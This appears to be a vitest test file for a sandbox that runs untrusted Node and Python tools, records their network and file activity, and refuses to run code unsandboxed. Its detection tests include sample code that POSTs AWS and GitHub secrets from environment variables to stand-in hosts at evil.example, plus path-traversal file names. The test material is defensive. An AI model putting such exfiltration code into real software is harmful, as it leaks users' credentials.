import { chmodSync, existsSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sandboxAvailable } from './run.js';
import { runFiles } from './testkit.js';
import { defaultSearchPath, which } from './tools.js';

let scratch = '';
beforeAll(() => {
  scratch = mkdtempSync(join(tmpdir(), 'sigma-sbxtest-'));
});
afterAll(() => rmSync(scratch, { recursive: true, force: true }));

describe('sandbox availability', () => {
  it('is available here (bwrap, strace and a real probe run), and says whether every address reaches the sink', async () => {
    const a = await sandboxAvailable();
    expect(a, a.reason).toMatchObject({ available: true });
    expect(a.anyAddress).toBe(which('ip', defaultSearchPath()) !== null);
  });
});

describe.concurrent('benign tools complete', { timeout: 90_000 }, () => {
  it('a Node tool with a sibling module, a data file and a temp file', async () => {
    const r = await runFiles(
      {
        'tool/index.js':
          "const { total } = require('./lib');\nconst rows = require('./data.json');\nrequire('fs').writeFileSync('/tmp/report.txt', String(total(rows)));\nconsole.log('total', total(rows), process.argv.slice(2).join(','));\n",
        'tool/lib.js': 'exports.total = (rows) => rows.reduce((n, r) => n + r.amount, 0);\n',
        'tool/data.json': '[{"amount": 2}, {"amount": 40}]',
      },
      'tool/index.js',
      { args: ['--fast', 'x'] },
    );
    expect(r.outcome).toBe('COMPLETED');
    expect(r.runtime).toBe('node');
    expect(r.exitCode).toBe(0);
    expect(r.stdout.excerpt).toBe('total 42 --fast,x\n');
    expect(r.stderr.excerpt).toBe('');
    expect(r.attemptedConnections).toEqual([]);
    expect(r.dnsQueries).toEqual([]);
    expect(r.processes).toEqual([]);
    expect(r.writtenFiles).toEqual([{ path: '/tmp/report.txt', operation: 'write', insideTmp: true }]);
    expect(r.deniedOperations).toEqual([]);
    expect(r.recording).toMatchObject({ tracer: 'strace', sink: true, truncated: false });
    expect(r.description).toMatch(/exited with code 0/);
    expect(r.description).toMatch(/no network connections/);
  });

  it('an ES module (.mjs) tool', async () => {
    const r = await runFiles(
      { 'main.mjs': "import { join } from './util.mjs';\nconsole.log(join(['a', 'b']));\n", 'util.mjs': "export const join = (xs) => xs.join('+');\n" },
      'main.mjs',
    );
    expect(r).toMatchObject({ outcome: 'COMPLETED', exitCode: 0, stdout: { excerpt: 'a+b\n' } });
  });

  it('a stdio tool gets its standard input (an MCP-style request) and answers on stdout', async () => {
    const r = await runFiles(
      {
        'server.py':
          'import json, sys\nreq = json.loads(sys.stdin.readline())\nprint(json.dumps({"jsonrpc": "2.0", "id": req["id"], "result": {"echo": req["method"]}}))\n',
      },
      'server.py',
      { stdin: new TextEncoder().encode('{"jsonrpc":"2.0","id":1,"method":"initialize"}\n') },
    );
    expect(r).toMatchObject({ outcome: 'COMPLETED', exitCode: 0 });
    expect(JSON.parse(r.stdout.excerpt)).toEqual({ jsonrpc: '2.0', id: 1, result: { echo: 'initialize' } });
  });

  it('a Python tool with a package import and a non-zero exit (still COMPLETED)', async () => {
    const r = await runFiles(
      {
        'app/main.py': 'import sys\nfrom helpers.fmt import money\nprint(money(1234.5), sys.argv[1:])\nsys.exit(3)\n',
        'app/helpers/__init__.py': '',
        'app/helpers/fmt.py': 'def money(x):\n    return f"{x:,.2f}"\n',
      },
      'app/main.py',
      { args: ['in.csv'] },
    );
    expect(r.outcome).toBe('COMPLETED');
    expect(r.runtime).toBe('python');
    expect(r.exitCode).toBe(3);
    expect(r.stdout.excerpt).toBe("1,234.50 ['in.csv']\n");
    expect(r.attemptedConnections).toEqual([]);
    expect(r.writtenFiles).toEqual([]);
  });
});

describe.concurrent('secrets sent out are caught', { timeout: 90_000 }, () => {
  it('Node: an env secret POSTed to a host shows as a blocked attempt with host, port and the mock name', async () => {
    const r = await runFiles(
      {
        'index.js':
          "fetch('http://collector.evil.example/upload', { method: 'POST', body: JSON.stringify({ key: process.env.AWS_SECRET_ACCESS_KEY }) })\n" +
          "  .then((res) => console.log('status', res.status)).catch((e) => console.log('failed', e.cause?.code));\n",
      },
      'index.js',
      { envNames: ['AWS_SECRET_ACCESS_KEY', 'UNUSED_TOKEN'] },
    );
    expect(r.outcome).toBe('COMPLETED');
    expect(r.mockEnv).toEqual(['AWS_SECRET_ACCESS_KEY', 'UNUSED_TOKEN']);
    const c = r.attemptedConnections.find((x) => x.host === 'collector.evil.example');
    expect(c, JSON.stringify(r.attemptedConnections)).toMatchObject({
      protocol: 'tcp',
      port: 80,
      blocked: true,
      reachedSink: true,
      http: { method: 'POST', path: '/upload', host: 'collector.evil.example' },
      containsMock: ['AWS_SECRET_ACCESS_KEY'],
    });
    expect(c!.bytesSent).toBeGreaterThan(0);
    expect(c!.payloadExcerpt).toContain('<mock AWS_SECRET_ACCESS_KEY>');
    expect(r.dnsQueries).toContainEqual(expect.objectContaining({ name: 'collector.evil.example', type: 'A' }));
    expect(r.counts.mockValuesSent).toBe(1);
    expect(r.description).toMatch(/collector\.evil\.example:80 \(blocked.*mock value of AWS_SECRET_ACCESS_KEY/);
  });

  it('Python: urllib POST of a base64-encoded token to a non-default port', async () => {
    const r = await runFiles(
      {
        'send.py':
          'import base64, os, urllib.request\n' +
          "data = base64.b64encode(os.environ['GITHUB_TOKEN'].encode())\n" +
          'try:\n' +
          "    urllib.request.urlopen(urllib.request.Request('http://api.evil.example:8080/t', data=data, method='POST'), timeout=3)\n" +
          'except Exception as e:\n' +
          "    print('error', e)\n",
      },
      'send.py',
      { envNames: ['GITHUB_TOKEN'] },
    );
    expect(r.outcome).toBe('COMPLETED');
    const c = r.attemptedConnections.find((x) => x.port === 8080);
    expect(c, JSON.stringify(r.attemptedConnections)).toMatchObject({
      host: 'api.evil.example',
      blocked: true,
      reachedSink: true,
      containsMock: ['GITHUB_TOKEN'],
    });
  });
});

describe('never unsandboxed', () => {
  /** A directory with every tool the sandbox uses linked in, except `omit`; `extra` adds scripts. */
  function toolDir(name: string, omit: string, extra: Record<string, string> = {}): string {
    const dir = join(scratch, name);
    rmSync(dir, { recursive: true, force: true });
    mkdirSync(dir);
    for (const t of ['bwrap', 'strace', 'setpriv', 'prlimit', 'unshare', 'nsenter', 'mount', 'bash', 'ip']) {
      if (t === omit) continue;
      const p = which(t, defaultSearchPath());
      if (p) symlinkSync(p, join(dir, t));
    }
    for (const [file, text] of Object.entries(extra)) {
      writeFileSync(join(dir, file), text);
      chmodSync(join(dir, file), 0o755);
    }
    return dir;
  }

  // The code would leave this file on the host if it ever ran outside the sandbox (inside, /tmp is its own).
  const canaryCode = (canary: string) => `require('fs').writeFileSync(${JSON.stringify(canary)}, 'ran');\n`;

  it('without bubblewrap the run is SKIPPED with that reason, and the code did not run', async () => {
    const canary = join(scratch, 'canary-no-bwrap');
    const r = await runFiles({ 'index.js': canaryCode(canary) }, 'index.js', {}, { searchPath: toolDir('no-bwrap', 'bwrap') });
    expect(r).toMatchObject({ outcome: 'SKIPPED', reasonCode: 'SANDBOX_UNAVAILABLE', exitCode: null });
    expect(r.reason).toMatch(/bubblewrap/);
    expect(r.description).toMatch(/^Not run: bubblewrap/);
    expect(existsSync(canary)).toBe(false);
  });

  it('without strace the run is SKIPPED (nothing could be recorded), and the code did not run', async () => {
    const canary = join(scratch, 'canary-no-strace');
    const r = await runFiles({ 'index.js': canaryCode(canary) }, 'index.js', {}, { searchPath: toolDir('no-strace', 'strace') });
    expect(r).toMatchObject({ outcome: 'SKIPPED', reasonCode: 'SANDBOX_UNAVAILABLE' });
    expect(r.reason).toMatch(/strace/);
    expect(existsSync(canary)).toBe(false);
  });

  it('a "bwrap" that does not sandbox (runs its command directly) fails the probe: SKIPPED, the code did not run', async () => {
    const canary = join(scratch, 'canary-fake-bwrap');
    const fake = '#!/bin/sh\nwhile [ "$#" -gt 0 ] && [ "$1" != "--" ]; do shift; done\nshift\nexec "$@"\n';
    const r = await runFiles({ 'index.js': canaryCode(canary) }, 'index.js', {}, { searchPath: toolDir('fake-bwrap', 'bwrap', { bwrap: fake }) });
    expect(r).toMatchObject({ outcome: 'SKIPPED', reasonCode: 'SANDBOX_UNAVAILABLE' });
    expect(existsSync(canary)).toBe(false);
  });

  it('an entry point that is not among the files, an unknown runtime and unsafe paths are SKIPPED before anything runs', async () => {
    expect(await runFiles({ 'a.js': '' }, 'b.js')).toMatchObject({ outcome: 'SKIPPED', reasonCode: 'ENTRY_MISSING' });
    expect(await runFiles({ 'run.sh': 'echo hi' }, 'run.sh')).toMatchObject({ outcome: 'SKIPPED', reasonCode: 'RUNTIME_UNSUPPORTED' });
    expect(await runFiles({ 'a.js': '', '../escape.js': '' }, 'a.js')).toMatchObject({ outcome: 'SKIPPED', reasonCode: 'FILES_REFUSED' });
    expect(await runFiles({ 'a.js': '', '/etc/cron.d/x': '' }, 'a.js')).toMatchObject({ outcome: 'SKIPPED', reasonCode: 'FILES_REFUSED' });
    expect(await runFiles({ '../a.js': '' }, '../a.js')).toMatchObject({ outcome: 'SKIPPED', reasonCode: 'ENTRY_MISSING' });
  });
});
